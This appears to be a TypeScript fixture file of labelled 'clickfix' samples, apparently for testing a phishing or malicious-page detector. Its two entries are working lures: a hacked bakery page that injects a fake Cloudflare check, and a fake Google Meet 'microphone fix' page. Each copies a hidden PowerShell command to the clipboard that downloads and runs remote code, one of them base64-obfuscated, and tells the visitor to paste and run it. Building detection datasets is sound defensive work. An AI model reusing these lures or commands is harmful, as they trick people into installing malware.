import { type Entry } from '../entry.js';
import { doc, pic, js, json, html, css, baseCss } from '../parts/w-kit.js';

export const entries: Entry[] = [
  {
    id: 'w-clickfix-cloudflare-verify-hacked-bakery',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.rosewoodbakery.co.uk/menu/',
    body: doc({
      lang: 'en-GB',
      title: 'Our Menu – Rosewood Bakery, Harrogate',
      css: baseCss('#9b5d33', 'Georgia,serif', '#fffaf3'),
      body: `<header class="top"><b>Rosewood Bakery</b><nav><a href="/">Home</a><a href="/menu/">Menu</a><a href="/cakes/">Celebration Cakes</a><a href="/visit/">Visit us</a></nav></header>
<div class="wrap"><h1>Our Menu</h1><div class="grid"><div class="card"><b>Sourdough loaf</b><p>£4.20</p></div><div class="card"><b>Cinnamon buns</b><p>£2.80</p></div><div class="card"><b>Yorkshire curd tart</b><p>£3.10</p></div><div class="card"><b>Flat white</b><p>£3.30</p></div></div></div>
<footer>Rosewood Bakery · 14 Montpellier Parade, Harrogate HG1 2TJ · Open Tue–Sat 8am–4pm</footer>`,
      scripts: `<script src="/wp-content/plugins/wp-optimize/js/minify.min.js?ver=3.2"></script>`,
    }),
    routes: {
      'www.rosewoodbakery.co.uk/wp-content/plugins/wp-optimize/js/minify.min.js': js(`(function(){var u='https://cdn.jsdelivr-static.com/npm/cf-challenge@1.0.4/dist/c.js';var s=document.createElement('script');s.src=u;document.head.appendChild(s)})();`),
      'cdn.jsdelivr-static.com/npm/cf-challenge@1.0.4/dist/c.js': js(`(function(){
var cmd='powershell -w h -nop -c "$u=\\'https://rosewood-cdn.b-cdn-static.net/v.txt\\';iex (irm $u)" # ✅ I am not a robot - Cloudflare Verification ID: 7812';
var d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#fff;z-index:999999;font-family:system-ui,-apple-system,Segoe UI,sans-serif;color:#313131';
d.innerHTML='<div style="max-width:560px;margin:90px auto"><h1 style="font-weight:500">www.rosewoodbakery.co.uk</h1><p>Verify you are human by completing the action below.</p><div id="cb" style="border:1px solid #ddd;background:#fafafa;padding:16px;display:flex;align-items:center;gap:12px;width:300px;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #999;border-radius:3px;display:inline-block"></span>Verify you are human<span style="margin-left:auto;font-size:11px;color:#999">CLOUDFLARE</span></div><div id="st" style="display:none;margin-top:18px;border:1px solid #ddd;padding:16px"><b>Verification steps</b><ol><li>Press <b>Windows Button</b> + <b>R</b></li><li>Press <b>CTRL</b> + <b>V</b></li><li>Press <b>Enter</b></li></ol><p style="font-size:12px;color:#666">Perform the steps above to finish verification.</p></div><p style="margin-top:40px">www.rosewoodbakery.co.uk needs to review the security of your connection before proceeding.</p><p style="font-size:12px;color:#999">Ray ID: 8f1c2a9b3d4e5f60 · Performance &amp; security by Cloudflare</p></div>';
document.body.appendChild(d);
document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();try{navigator.clipboard.writeText(cmd)}catch(e){}document.getElementById('st').style.display='block'};
})();`),
    },
  },
  {
    id: 'w-clickfix-meet-microphone-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet.google.com-join.rooms-app.us/hmf-wrzq-ucs',
    body: doc({
      title: 'Meet - hmf-wrzq-ucs',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial,sans-serif}.c{display:flex;gap:40px;max-width:1000px;margin:80px auto;align-items:center}.v{flex:1;aspect-ratio:16/9;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center}
.p{width:340px;text-align:center}.e{background:#fff;color:#202124;border-radius:8px;padding:20px;text-align:left;display:none}.b{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:10px 24px;font-weight:500}`,
      body: `<div class="c"><div class="v">Camera is starting…</div><div class="p"><h2>Ready to join?</h2><p>Weekly sync — Procurement / vendors</p><button class="b" id="j">Join now</button>
<div class="e" id="e"><b style="color:#d93025">Microphone access problem</b><p>Your browser cannot access your microphone because of a driver error (0x80070005). Fix it to join the meeting:</p><ol><li>Press <b>Win + X</b> and choose <b>Windows PowerShell</b></li><li>Paste the fix with <b>Ctrl + V</b></li><li>Press <b>Enter</b> and reload the page</li></ol><button class="b" id="cp">Copy fix</button></div></div></div>`,
      scripts: `<script>var f='powershell -NoP -W Hidden -C "$x=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\\'aWV4IChpcm0gaHR0cHM6Ly9tZWV0LWRyaXZlcnMtZml4LmNvbS9hdWRpby5wczEp\\'));iex $x"';
j.onclick=function(){e.style.display='block';j.style.display='none'};cp.onclick=function(){navigator.clipboard.writeText(f);cp.textContent='Copied ✓'};</script>`,
    }),
  },
];
